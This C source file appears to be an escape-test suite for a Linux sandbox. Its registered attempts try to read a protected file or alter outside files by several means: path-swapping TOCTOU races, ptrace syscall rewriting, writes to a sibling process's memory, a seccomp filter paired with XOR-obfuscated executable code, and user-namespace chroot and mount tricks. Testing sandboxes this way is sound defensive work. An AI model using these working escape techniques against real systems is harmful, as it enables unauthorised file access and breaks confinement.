/*
 * Ways that lead through the kernel's rarer doors: what is exchanged between a question and its answer, processes that
 * meddle with each other, namespaces, calls that take a path where nobody expects one.
 */
#include <linux/fs.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/quota.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/statfs.h>
#include <sys/swap.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <utime.h>
#ifdef __GLIBC__
#include <sys/fanotify.h>
#endif

#include "attempt.h"

#define E(call) ((call) < 0 ? errno : 0)

/* ---- the text of a path changes between the question and the kernel's own look at it ---- */

static char *text;                     /* shared with forked children too */
static char good[1024], evil[1024];
static volatile int *stop;

static void *swap(void *unused)
{
	while (!*stop) {
		memcpy(text, evil, strlen(evil) + 1);
		memcpy(text, good, strlen(good) + 1);
	}
	return unused;
}
static pthread_t begin(const char *harmless, const char *wanted)
{
	pthread_t t;
	char *at = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	text = at;
	stop = (volatile int *)(void *)(at + 4096);
	snprintf(good, sizeof good, "%s", harmless);
	snprintf(evil, sizeof evil, "%s", wanted);
	memcpy(text, good, strlen(good) + 1);
	pthread_create(&t, NULL, swap, NULL);
	return t;
}
static void end(pthread_t t)
{
	*stop = 1;
	pthread_join(t, NULL);
}
static const char *own_file(void)
{
	close(open(in("work/ok"), O_CREAT | O_WRONLY, 0644));
	return in("work/ok");
}
/* Opens again and again; shows the first contents that begin with "secret". */
static int race_open(const char *harmless, const char *wanted, int flags)
{
	char buf[64] = "";
	pthread_t t = begin(harmless, wanted);
	for (int i = 0; i < 2000; i++) {
		if (flags & O_CREAT)
			unlink(harmless);
		int fd = (int)sys(SYS_open, text, flags, 0644);
		ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n > 6 && !memcmp(buf, "secret", 6)) {
			end(t);
			return show(buf);
		}
	}
	end(t);
	return ENOENT;
}
static int t_race_proc(const char *p) { return race_open("/proc/self/stat", p, O_RDONLY); }
static int t_race_dev(const char *p) { return race_open("/dev/null", p, O_RDONLY); }
static int t_race_creat(const char *p) { return race_open(in("work/made"), p, O_CREAT | O_RDONLY); }
static int t_race_rdwr(const char *p) { return race_open(own_file(), p, O_RDWR); }
static int t_race_stat(const char *p)
{
	char room[512];
	struct stat s;
	stat(own_file(), &s);
	int seen = 0;
	pthread_t t = begin(in("work/ok"), p);
	for (int i = 0; i < 3000 && !seen; i++) {
		memset(room, 0, sizeof room);
		if (sys(SYS_statx, AT_FDCWD, text, 0, 0x200 /* STATX_SIZE */, room) == 0)
			seen = *(uint64_t *)(void *)(room + 40) == 16;
	}
	end(t);
	return seen ? show("secret size") : ENOENT;
}
static int t_race_access(const char *p)
{
	/* the harmless name is missing: an answer of 0 can come from the hidden one only */
	int seen = 0;
	pthread_t t = begin(in("work/missing"), p);
	for (int i = 0; i < 3000 && !seen; i++)
		seen = sys(SYS_access, text, F_OK) == 0;
	end(t);
	return seen ? show("secret is there") : ENOENT;
}
static int t_race_readlink(const char *p)
{
	char buf[256];
	int seen = 0;
	(void)p;
	symlink("x", in("work/l"));
	pthread_t t = begin(in("work/l"), in("hidden/link"));
	for (int i = 0; i < 3000 && !seen; i++) {
		memset(buf, 0, sizeof buf);
		seen = sys(SYS_readlink, text, buf, sizeof buf) > 1 && !memcmp(buf, "secret", 6);
	}
	end(t);
	return seen ? show(buf) : ENOENT;
}
static int t_race_exec(const char *p)
{
	char *argv[] = { "x", NULL };
	(void)p;
	pthread_t t = begin("/bin/true", in("hidden/program"));
	for (int i = 0; i < 200; i++) {
		pid_t pid = fork();
		if (!pid) {
			/* no thread in a child: another process changes the text that is shared */
			sys(SYS_execve, text, argv, NULL);
			_exit(1);
		}
		waitpid(pid, NULL, 0);
	}
	end(t);
	return ENOENT;
}
/* Another thread than the one that executes asks something in between. */
static void *executes(void *unused)
{
	char *argv[] = { "x", NULL };
	sys(SYS_execve, text, argv, NULL);
	return unused;
}
static int race_exec_thread(void (*meanwhile)(void))
{
	pthread_t t = begin("/bin/true", in("hidden/program"));
	meanwhile(); /* what it needs it has from now on */
	for (int i = 0; i < 150; i++) {
		pid_t pid = fork();
		if (!pid) {
			pthread_t other;
			pthread_create(&other, NULL, executes, NULL);
			for (int n = 0; n < 500; n++) {
				meanwhile();
				sys(SYS_access, "/", F_OK);
			}
			_exit(1);
		}
		waitpid(pid, NULL, 0);
	}
	end(t);
	return ENOENT;
}
static void nothing(void) {}
static int t_race_exec_thread(const char *p) { (void)p; return race_exec_thread(nothing); }
/* By what the kernel has put there at the start of a program one may know whether another has been started: it can be changed. */
static void another_random(void) { ++*(volatile unsigned char *)getauxval(AT_RANDOM); }
static int t_race_exec_random(const char *p) { (void)p; return race_exec_thread(another_random); }
/* The kernel can be made to tell something else of where the program lies. */
static void another_auxv(void)
{
	static unsigned long aux[64];
	static struct prctl_mm_map map = { .exe_fd = (uint32_t)-1 };
	if (!map.auxv_size) {
		char text[1024] = "";
		int fd = open("/proc/self/auxv", O_RDONLY), n = (int)read(fd, aux, sizeof aux);
		close(fd);
		fd = open("/proc/self/stat", O_RDONLY);
		(void)!read(fd, text, sizeof text - 1);
		close(fd);
		void *to[] = { &map.start_code, &map.end_code, &map.start_stack, &map.start_data, &map.end_data, &map.start_brk,
				   &map.arg_start, &map.arg_end, &map.env_start, &map.env_end };
		const int field[] = { 26, 27, 28, 45, 46, 47, 48, 49, 50, 51 };
		char *at = strrchr(text, ')') + 2;
		for (int f = 3, i = 0; i < 10; f++, at = strchr(at, ' ') + 1)
			if (f == field[i])
				*(uint64_t *)to[i++] = strtoull(at, NULL, 10);
		map.brk = (uint64_t)(uintptr_t)sbrk(0);
		map.auxv = (void *)aux;
		map.auxv_size = (uint32_t)n;
	}
	aux[3] ^= 1; /* nobody reads that again */
	sys(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0);
}
static int t_race_exec_auxv(const char *p) { (void)p; return race_exec_thread(another_auxv); }
/* The text stays as it is, a link on the way becomes another one. */
static int t_race_exec_link(const char *p)
{
	char *argv[] = { "echo", "secret", NULL };
	static char link[512], other[512], path[512], hidden[512], own[512];
	(void)p;
	snprintf(link, sizeof link, "%s", in("work/link"));
	snprintf(other, sizeof other, "%s", in("work/other"));
	snprintf(path, sizeof path, "%s", in("work/link/echo"));
	snprintf(hidden, sizeof hidden, "%s", in("hidden"));
	snprintf(own, sizeof own, "%s", in("work/own"));
	mkdir(own, 0755);
	symlink("/bin/true", in("work/own/echo"));
	symlink(own, link);
	pid_t swapper = fork();
	if (!swapper)
		for (int i = 0;; i++) {
			symlink(i % 2 ? own : hidden, other);
			rename(other, link);
		}
	for (int i = 0; i < 150; i++) {
		pid_t pid = fork();
		if (!pid) {
			sys(SYS_execve, path, argv, NULL);
			_exit(1);
		}
		waitpid(pid, NULL, 0);
	}
	kill(swapper, SIGKILL);
	waitpid(swapper, NULL, 0);
	return ENOENT;
}
/* The descriptor or the working directory becomes another one. */
static int dir_a, dir_b, dir_x;
static void *swap_dirs(void *unused)
{
	while (!*stop) {
		dup2(dir_a, dir_x);
		dup2(dir_b, dir_x);
	}
	return unused;
}
static void *swap_cwd(void *unused)
{
	while (!*stop) {
		fchdir(dir_a);
		fchdir(dir_b);
	}
	return unused;
}
static int race_dir(void *(*how)(void *), int cwd)
{
	static volatile int flag;
	pthread_t t;
	char buf[64] = "";
	stop = &flag;
	mkdir(in("work/hidden"), 0755);
	close(open(in("work/hidden/secret"), O_CREAT | O_WRONLY, 0644));
	dir_a = open(in("work"), O_RDONLY | O_DIRECTORY);
	dir_b = open(base, O_RDONLY | O_DIRECTORY);
	dir_x = dup(dir_a);
	pthread_create(&t, NULL, how, NULL);
	for (int i = 0; i < 2000; i++) {
		int fd = (int)sys(SYS_openat, cwd ? AT_FDCWD : dir_x, "hidden/secret", O_RDONLY);
		ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
		if (fd >= 0)
			close(fd);
		if (n > 0) {
			flag = 1;
			return show(buf);
		}
	}
	flag = 1;
	pthread_join(t, NULL);
	return ENOENT;
}
static int t_race_dirfd(const char *p) { (void)p; return race_dir(swap_dirs, 0); }
static int t_race_cwd(const char *p) { (void)p; return race_dir(swap_cwd, 1); }

/* ---- one process works on another ---- */

#if defined(__x86_64__)
/* The child asks for something harmless, its tracer makes it an open. */
static int t_ptrace_child(const char *p)
{
	int s;
	pid_t pid = fork();
	if (!pid) {
		if (ptrace(PTRACE_TRACEME, 0, 0, 0))
			_exit(errno);
		raise(SIGSTOP);
		_exit(show_fd((int)syscall(SYS_getpgid, 0, p, 0)));
	}
	if (waitpid(pid, &s, 0) != pid || !WIFSTOPPED(s))
		return WIFEXITED(s) ? WEXITSTATUS(s) : EPERM;
	for (int i = 0; i < 1000; i++) {
		struct user_regs_struct r;
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) || waitpid(pid, &s, 0) != pid || !WIFSTOPPED(s))
			break;
		if (!ptrace(PTRACE_GETREGS, pid, 0, &r) && r.orig_rax == SYS_getpgid && (long)r.rax == -ENOSYS) {
			r.orig_rax = SYS_open;
			r.rdi = r.rsi;
			r.rsi = r.rdx = 0;
			ptrace(PTRACE_SETREGS, pid, 0, &r);
		}
	}
	return EACCES;
}
#else
static int t_ptrace_child(const char *p) { (void)p; return ENOSYS; }
#endif
/* Another program of the session, started by the same shell, which has no reason to be supervised. */
static pid_t sibling(void)
{
	usleep(20000);
	return getenv("SIBLING") ? atoi(getenv("SIBLING")) : -1;
}
static int done(pid_t pid, int result, int error)
{
	(void)pid;
	return result ? show("secret process") : error;
}
static int t_ptrace_sibling(const char *p)
{
	pid_t pid = sibling();
	(void)p;
	int ok = ptrace(0x4206 /* PTRACE_SEIZE */, pid, 0, 0) == 0, e = errno;
	return done(pid, ok, e);
}
static int t_sys_ptrace_sibling(const char *p)
{
	pid_t pid = sibling();
	(void)p;
	int ok = sys(SYS_ptrace, PTRACE_ATTACH, pid, 0, 0) == 0, e = errno;
	return done(pid, ok, e);
}
static int vm_write(int raw)
{
	pid_t pid = sibling();
	char byte = 0;
	struct iovec here = { &byte, 1 }, there = { (void *)4096, 1 };
	/* nothing is mapped there: EFAULT means that the kernel would have written */
	long n = raw ? sys(SYS_process_vm_writev, pid, &here, 1, &there, 1, 0) : process_vm_writev(pid, &here, 1, &there, 1, 0);
	int e = errno;
	return done(pid, n == 1 || e == EFAULT, e);
}
static int t_vm_writev_sibling(const char *p) { (void)p; return vm_write(0); }
static int t_sys_vm_writev_sibling(const char *p) { (void)p; return vm_write(1); }
static int t_mem_sibling(const char *p)
{
	char name[64];
	pid_t pid = sibling();
	(void)p;
	snprintf(name, sizeof name, "/proc/%d/mem", (int)pid);
	int fd = open(name, O_RDWR), e = errno;
	return done(pid, fd >= 0, e);
}
static int t_sys_mem_sibling(const char *p)
{
	char name[64];
	pid_t pid = sibling();
	(void)p;
	snprintf(name, sizeof name, "/proc/%d/mem", (int)pid);
	int fd = (int)sys(SYS_open, name, O_RDWR), e = errno;
	return done(pid, fd >= 0, e);
}

/* A filter of the program's own, which lets everything through: the session's still answers. */
static int own_filter(void)
{
	struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	struct sock_fprog program = { 1, &allow };
	return prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) ? errno : 0;
}
static int t_sys_own_filter(const char *p) { int e = own_filter(); return e ? e : show_fd((int)sys(SYS_open, p, O_RDONLY)); }
static void *filtered(void *unused)
{
	own_filter();
	usleep(300000);
	return unused;
}
/* Another thread's filter keeps ours from being put on all threads: then code of its own must not be made either. */
static int t_own_filter_jit(const char *p)
{
#if defined(__x86_64__)
	static volatile const unsigned char code[] = { 0xe2, 0x58, 0x5a, 0x5a, 0x5a, 0x6b, 0xac, 0x55, 0x5f, 0x99 };
	pthread_t t;
	pthread_create(&t, NULL, filtered, NULL);
	usleep(50000);
	unsigned char *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	for (unsigned i = 0; i < sizeof code; i++)
		m[i] = code[i] ^ 0x5a;
	if (mprotect(m, 4096, PROT_READ | PROT_EXEC))
		return errno;
	long fd = ((long (*)(const char *))(uintptr_t)m)(p);
	return fd < 0 ? (int)-fd : show_fd((int)fd);
#else
	(void)p;
	return ENOSYS;
#endif
}

/* ---- namespaces and mounts ---- */

static int t_userns_tree(const char *p)
{
	(void)p;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return errno;
	int t = (int)syscall(428, AT_FDCWD, base, 1);
	return t < 0 ? errno : show_fd(openat(t, "hidden/secret", O_RDONLY));
}
static int t_sys_userns_tree(const char *p)
{
	(void)p;
	if (sys(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS))
		return errno;
	int t = (int)sys(428, AT_FDCWD, base, 1);
	return t < 0 ? errno : show_fd((int)sys(SYS_openat, t, "hidden/secret", O_RDONLY));
}
static int t_userns_chroot(const char *p)
{
	(void)p;
	if (unshare(CLONE_NEWUSER))
		return errno;
	return chroot(base) ? errno : show_fd(open("/hidden/secret", O_RDONLY));
}
static int t_userns_bind(const char *p)
{
	(void)p;
	mkdir(in("work/m"), 0755);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return errno;
	return mount(in("hidden"), in("work/m"), 0, MS_BIND, 0) ? errno : show_fd(open(in("work/m/secret"), O_RDONLY));
}
/* Another process's root, reached through /proc. */
static int t_sys_proc_child_root(const char *p)
{
	char name[128];
	int ready[2];
	char byte;
	(void)p;
	if (pipe(ready))
		return errno;
	pid_t pid = fork();
	if (!pid) {
		sys(SYS_unshare, CLONE_NEWUSER);
		byte = sys(SYS_chroot, base) ? 'n' : 'y';
		(void)!write(ready[1], &byte, 1);
		pause();
	}
	(void)!read(ready[0], &byte, 1);
	snprintf(name, sizeof name, "/proc/%d/root/hidden/secret", (int)pid);
	int e = byte == 'y' ? show_fd((int)sys(SYS_open, name, O_RDONLY)) : EPERM;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return e;
}
static int t_proc_parent_cwd(const char *p)
{
	char name[128];
	(void)p;
	chdir(base);
	snprintf(name, sizeof name, "/proc/%d/task/%d/cwd/hidden/secret", (int)getpid(), (int)getpid());
	return show_fd(open(name, O_RDONLY));
}

/* A descriptor that was sent, from a process of the session to another. */
static int t_sys_sent_directory(const char *p)
{
	int pair[2];
	char byte = 'x', room[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
	(void)p;
	socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
	pid_t pid = fork();
	if (!pid) {
		int fd = (int)sys(SYS_open, in("hidden"), O_PATH);
		if (fd < 0)
			fd = (int)sys(SYS_open, base, O_PATH);
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		*c = (struct cmsghdr){ .cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS };
		memcpy(CMSG_DATA(c), &fd, sizeof fd);
		sendmsg(pair[0], &m, 0);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	if (recvmsg(pair[1], &m, MSG_DONTWAIT) < 0 || !CMSG_FIRSTHDR(&m))
		return EACCES;
	int fd;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
	int got = (int)sys(SYS_openat, fd, "secret", O_RDONLY);
	return show_fd(got < 0 ? (int)sys(SYS_openat, fd, "hidden/secret", O_RDONLY) : got);
}
/* Descriptors and working directory shared with a child that is another process. */
static int t_sys_clone_shared(const char *p)
{
	(void)p;
	pid_t pid = (pid_t)sys(SYS_clone, CLONE_FILES | CLONE_FS | SIGCHLD, 0, 0, 0, 0);
	if (!pid) {
		chdir(base);
		_exit(open("hidden", O_PATH) < 0);
	}
	waitpid(pid, NULL, 0);
	return show_fd((int)sys(SYS_open, "hidden/secret", O_RDONLY));
}
static int t_fdinfo(const char *p)
{
	/* what the kernel tells of a process names files, but shows none of them */
	char line[512];
	FILE *f = fopen("/proc/self/mountinfo", "r");
	(void)p;
	while (f && fgets(line, sizeof line, f))
		if (strstr(line, "hidden/secret"))
			return show(line);
	return ENOENT;
}

const struct attempt kernel_read_attempts[] = {
	{ "sys-race-proc", t_race_proc }, { "sys-race-dev", t_race_dev }, { "sys-race-creat", t_race_creat }, { "sys-race-rdwr", t_race_rdwr },
	{ "sys-race-stat", t_race_stat }, { "sys-race-access", t_race_access }, { "sys-race-readlink", t_race_readlink },
	{ "sys-race-exec", t_race_exec }, { "sys-race-exec-thread", t_race_exec_thread }, { "sys-race-exec-random", t_race_exec_random }, { "sys-race-exec-auxv", t_race_exec_auxv },
	{ "sys-race-exec-link", t_race_exec_link },
	 { "sys-race-dirfd", t_race_dirfd }, { "sys-race-cwd", t_race_cwd },
	{ "ptrace-child", t_ptrace_child }, { "ptrace-sibling", t_ptrace_sibling }, { "sys-ptrace-sibling", t_sys_ptrace_sibling },
	{ "vm-writev-sibling", t_vm_writev_sibling }, { "sys-vm-writev-sibling", t_sys_vm_writev_sibling }, { "mem-sibling", t_mem_sibling },
	{ "sys-mem-sibling", t_sys_mem_sibling }, { "sys-own-filter", t_sys_own_filter }, { "own-filter-jit", t_own_filter_jit },
	{ "userns-tree", t_userns_tree }, { "sys-userns-tree", t_sys_userns_tree }, { "userns-chroot", t_userns_chroot },
	{ "userns-bind", t_userns_bind }, { "sys-proc-child-root", t_sys_proc_child_root }, { "proc-task-cwd", t_proc_parent_cwd },
	{ "sys-sent-directory", t_sys_sent_directory }, { "sys-clone-shared", t_sys_clone_shared }, { "mountinfo", t_fdinfo },
	{ NULL, NULL },
};

/* ---- that something is there ---- */

#ifdef __GLIBC__
static int x_fanotify(const char *p) { return E(fanotify_mark(fanotify_init(0x200 /* REPORT_FID */, O_RDONLY), 1, 2, AT_FDCWD, p)); }
#else
static int x_fanotify(const char *p)
{
	long fd = syscall(SYS_fanotify_init, 0x200, 0);
	/* the mask is two words where a word has 32 bits */
	return E(sizeof(long) == 8 ? syscall(SYS_fanotify_mark, fd, 1, 2L, AT_FDCWD, p) : syscall(SYS_fanotify_mark, fd, 1, 2L, 0, AT_FDCWD, p));
}
#endif
static int x_sys_fanotify(const char *p)
{
	return sizeof(long) == 8 ? E(sys(SYS_fanotify_mark, sys(SYS_fanotify_init, 0x200, 0), 1, 2, AT_FDCWD, p)) : ENOSYS;
}
static int x_handle(const char *p)
{
	char room[256] = { 0 };
	int id;
	*(unsigned *)(void *)room = 128;
	return E(syscall(SYS_name_to_handle_at, AT_FDCWD, p, room, &id, 0));
}
static int x_sys_handle(const char *p)
{
	char room[256] = { 0 };
	int id;
	*(unsigned *)(void *)room = 128;
	return E(sys(SYS_name_to_handle_at, AT_FDCWD, p, room, &id, 0));
}
static int x_quotactl(const char *p) { char b[256]; return E(quotactl(0x80000700 /* Q_GETINFO */ | 0, p, 0, b)); }
static int x_sys_quotactl(const char *p) { char b[256]; return E(sys(SYS_quotactl, 0x80000400, p, 0, b)); }
static int x_swapon(const char *p) { return E(swapon(p, 0)); }
static int x_swapoff(const char *p) { return E(swapoff(p)); }
static int x_sys_swapoff(const char *p) { return E(sys(SYS_swapoff, p)); }
static int x_acct(const char *p) { return E(syscall(SYS_acct, p)); }
static int x_mount_target(const char *p) { return E(mount("none", p, "tmpfs", 0, NULL)); }
static int x_mount_source(const char *p) { return E(mount(p, "/mnt", NULL, MS_BIND, NULL)); }
static int x_sys_mount(const char *p) { return E(sys(SYS_mount, "none", p, "tmpfs", 0, 0)); }
static int x_umount(const char *p) { return E(umount2(p, 0)); }
static int x_chroot(const char *p) { return E(chroot(p)); }
static int x_pivot(const char *p) { return E(syscall(SYS_pivot_root, p, p)); }
static int x_open_tree(const char *p) { return E(syscall(428, AT_FDCWD, p, 0)); }
static int x_sys_open_tree(const char *p) { return E(sys(428, AT_FDCWD, p, 0)); }
static int x_fspick(const char *p) { return E(syscall(433, AT_FDCWD, p, 0)); }
static int x_move_mount(const char *p) { return E(syscall(429, AT_FDCWD, p, AT_FDCWD, "/mnt", 0)); }
static int x_mount_setattr(const char *p) { uint64_t a[4] = { 0 }; return E(syscall(442, AT_FDCWD, p, 0, a, sizeof a)); }
static int x_bpf(const char *p) { struct { uint64_t path; uint32_t fd, flags; } a = { (uintptr_t)p, 0, 0 }; return E(syscall(SYS_bpf, 7 /* OBJ_GET */, &a, sizeof a)); }
static int x_sys_bpf(const char *p) { struct { uint64_t path; uint32_t fd, flags; } a = { (uintptr_t)p, 0, 0 }; return E(sys(SYS_bpf, 7, &a, sizeof a)); }
static int x_sys_execveat(const char *p) { char *v[] = { "x", NULL }; return E(sys(SYS_execveat, AT_FDCWD, p, v, NULL, 0)); }
static int x_spawn(const char *p) { char *v[] = { "x", NULL }; pid_t pid; return posix_spawn(&pid, p, NULL, NULL, v, NULL); }
static int x_listxattr(const char *p) { char b[64]; return E(listxattr(p, b, sizeof b)); }
static int x_sys_listxattrat(const char *p) { char b[64]; return E(sys(465, AT_FDCWD, p, 0, b, sizeof b)); }
static int x_sys_getattr(const char *p) { char b[64] = { 0 }; return E(sys(468, AT_FDCWD, p, b, 24, 0)); }
static int x_sys_utimensat(const char *p) { struct timespec t[2] = { { 1, 0 }, { 1, 0 } }; return E(sys(SYS_utimensat, AT_FDCWD, p, t, 0)); }
static int x_sys_truncate(const char *p) { return E(sys(SYS_truncate, p, 0)); }
static int x_sys_link(const char *p) { return E(sys(SYS_link, p, in("work/l2"))); }
static int x_sys_link_over(const char *p) { close(open(in("work/w"), O_CREAT | O_WRONLY, 0644)); return E(sys(SYS_link, in("work/w"), p)); }
static int x_sys_rename_over(const char *p) { close(open(in("work/w"), O_CREAT | O_WRONLY, 0644)); return E(sys(SYS_rename, in("work/w"), p)); }
static int x_sys_noreplace(const char *p) { close(open(in("work/w"), O_CREAT | O_WRONLY, 0644)); return E(sys(SYS_renameat2, AT_FDCWD, in("work/w"), AT_FDCWD, p, 1)); }
static int x_sys_symlink(const char *p) { return E(sys(SYS_symlink, "x", p)); }
static int x_sys_mknod(const char *p) { return E(sys(SYS_mknod, p, S_IFREG | 0644, 0)); }
static int x_sys_slash(const char *p) { char b[1024]; snprintf(b, sizeof b, "%s/", p); return E(sys(SYS_access, b, F_OK)); }
static int x_sys_below(const char *p) { char b[1024]; snprintf(b, sizeof b, "%s/x", p); return E(sys(SYS_access, b, F_OK)); }
static int x_sys_dotdot(const char *p) { char b[1024]; snprintf(b, sizeof b, "%s/../../work", p); return E(sys(SYS_access, b, F_OK)); }
static int x_slash(const char *p) { char b[1024]; snprintf(b, sizeof b, "%s/", p); return E(access(b, F_OK)); }
static int x_below(const char *p) { char b[1024]; snprintf(b, sizeof b, "%s/x", p); return E(access(b, F_OK)); }
static int x_dotdot(const char *p) { char b[1024]; snprintf(b, sizeof b, "%s/../../work", p); return E(access(b, F_OK)); }
static int x_pathconf(const char *p) { errno = 0; return pathconf(p, _PC_PATH_MAX) < 0 ? errno : 0; }
static int x_euidaccess(const char *p) { return E(faccessat(AT_FDCWD, p, R_OK, AT_EACCESS)); }
static int probe(const char *p, int raw)
{
	/* a probe's path stands in the attributes; the kind's number is the kernel's own */
	char kind[16] = "";
	uint64_t a[16] = { 0 };
	int fd = open("/sys/bus/event_source/devices/uprobe/type", O_RDONLY);
	if (fd < 0 || read(fd, kind, sizeof kind - 1) <= 0)
		return ENOSYS;
	((uint32_t *)(void *)a)[0] = (uint32_t)atoi(kind);
	((uint32_t *)(void *)a)[1] = sizeof a;
	a[7] = (uintptr_t)p; /* config1 */
	return raw ? E(sys(SYS_perf_event_open, a, 0, -1, -1, 0)) : E(syscall(SYS_perf_event_open, a, 0, -1, -1, 0));
}
static int x_probe(const char *p) { return probe(p, 0); }
static int x_sys_probe(const char *p) { return probe(p, 1); }
static int x_utime(const char *p) { return E(utime(p, NULL)); }
static int x_sys_uselib(const char *p)
{
#ifdef SYS_uselib
	return E(sys(SYS_uselib, p));
#else
	(void)p;
	return ENOSYS;
#endif
}

const struct attempt kernel_exist_attempts[] = {
	{ "fanotify", x_fanotify }, { "sys-fanotify", x_sys_fanotify }, { "handle", x_handle }, { "sys-handle", x_sys_handle },
	{ "quotactl", x_quotactl }, { "sys-quotactl", x_sys_quotactl }, { "swapon", x_swapon }, { "swapoff", x_swapoff },
	{ "sys-swapoff", x_sys_swapoff }, { "acct", x_acct }, { "mount-target", x_mount_target }, { "mount-source", x_mount_source },
	{ "sys-mount", x_sys_mount }, { "umount", x_umount }, { "chroot", x_chroot }, { "pivot-root", x_pivot }, { "open-tree", x_open_tree },
	{ "sys-open-tree", x_sys_open_tree }, { "fspick", x_fspick }, { "move-mount", x_move_mount }, { "mount-setattr", x_mount_setattr },
	{ "bpf", x_bpf }, { "sys-bpf", x_sys_bpf }, { "sys-execveat", x_sys_execveat }, { "spawn", x_spawn }, { "listxattr", x_listxattr },
	{ "sys-listxattrat", x_sys_listxattrat }, { "sys-file-getattr", x_sys_getattr }, { "sys-utimensat", x_sys_utimensat },
	{ "sys-truncate", x_sys_truncate }, { "sys-link", x_sys_link }, { "sys-link-over", x_sys_link_over },
	{ "sys-rename-over", x_sys_rename_over }, { "sys-noreplace", x_sys_noreplace }, { "sys-symlink", x_sys_symlink },
	{ "sys-mknod", x_sys_mknod }, { "sys-slash", x_sys_slash }, { "sys-below", x_sys_below }, { "sys-dotdot", x_sys_dotdot },
	{ "slash", x_slash }, { "below", x_below }, { "dotdot", x_dotdot }, { "pathconf", x_pathconf }, { "euidaccess", x_euidaccess },
	{ "probe", x_probe }, { "sys-probe", x_sys_probe }, { "utime", x_utime }, { "sys-uselib", x_sys_uselib }, { NULL, NULL },
};

/* ---- changes outside ---- */

#define FILE_ in("outside/file")
#define NEW_ in("outside/new")
#define T(name) static int w_##name(const char *unused)
#define U (void)unused

/* Attributes are what the kernel's fence does not see. */
static int race_attribute(long (*change)(void))
{
	pthread_t t = begin(own_file(), FILE_);
	for (int i = 0; i < 3000; i++)
		change();
	end(t);
	return EACCES;
}
static long do_chmod(void) { return sys(SYS_chmod, text, 0604); }
static long do_chown(void) { return sys(SYS_fchownat, AT_FDCWD, text, -1, getegid(), 0) == 0 ? sys(SYS_chmod, text, 0603) : -1; }
static long do_utimes(void) { struct timespec s[2] = { { 1, 0 }, { 1, 0 } }; return sys(SYS_utimensat, AT_FDCWD, text, s, 0); }
static long do_xattr(void) { return sys(SYS_setxattr, text, "user.x", "y", 1, 0); }
T(sys_race_chmod) { U; return race_attribute(do_chmod); }
T(sys_race_chown) { U; return race_attribute(do_chown); }
T(sys_race_utimes) { U; return race_attribute(do_utimes); }
T(sys_race_xattr) { U; return race_attribute(do_xattr); }
static int race_descriptor(long (*change)(int))
{
	static volatile int flag;
	pthread_t t;
	stop = &flag;
	flag = 0;
	dir_a = open(own_file(), O_RDONLY);
	dir_b = open(FILE_, O_RDONLY);
	dir_x = dup(dir_a);
	pthread_create(&t, NULL, swap_dirs, NULL);
	for (int i = 0; i < 3000; i++)
		change(dir_x);
	flag = 1;
	pthread_join(t, NULL);
	return EACCES;
}
static long do_fchmod(int fd) { return sys(SYS_fchmod, fd, 0604); }
static long do_fsetxattr(int fd) { return sys(SYS_fsetxattr, fd, "user.x", "y", 1, 0); }
T(sys_race_fchmod) { U; return race_descriptor(do_fchmod); }
T(sys_race_fsetxattr) { U; return race_descriptor(do_fsetxattr); }
static long do_libc_fchmod(int fd) { return fchmod(fd, 0604); }
static long do_libc_chmod(void) { return chmod(text, 0604); }
T(race_fchmod) { U; return race_descriptor(do_libc_fchmod); }
T(race_chmod) { U; return race_attribute(do_libc_chmod); }
T(sys_fchmodat2_empty) { U; return E(sys(452, sys(SYS_open, FILE_, O_PATH), "", 0600, AT_EMPTY_PATH)); }
T(sys_fchownat_empty) { U; int fd = (int)sys(SYS_open, FILE_, O_PATH); return E(sys(SYS_fchownat, fd, "", -1, getgid(), AT_EMPTY_PATH)) ? errno : E(sys(SYS_fchmodat, AT_FDCWD, FILE_, 0600)); }
T(sys_utimensat_null) { U; struct timespec t[2] = { { 1, 0 }, { 1, 0 } }; return E(sys(SYS_utimensat, sys(SYS_open, FILE_, O_RDONLY), 0, t, 0)); }
T(sys_setxattrat) { U; struct { uint64_t value; uint32_t size, flags; } a = { (uintptr_t)"y", 1, 0 }; return E(sys(463, AT_FDCWD, FILE_, 0, "user.x", &a, sizeof a)); }
T(sys_file_setattr) { U; char a[24] = { 0 }; a[0] = 0x40; return E(sys(469, AT_FDCWD, FILE_, a, sizeof a, 0)); }
T(proc_fd_setxattr) { U; char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", open(FILE_, O_PATH)); return E(setxattr(p, "user.x", "y", 1, 0)); }
T(fssetxattr) { U; struct fsxattr a; int fd = open(FILE_, O_RDONLY); if (ioctl(fd, FS_IOC_FSGETXATTR, &a)) return errno; a.fsx_xflags |= 0x80 /* NODUMP */; return E(ioctl(fd, FS_IOC_FSSETXATTR, &a)); }
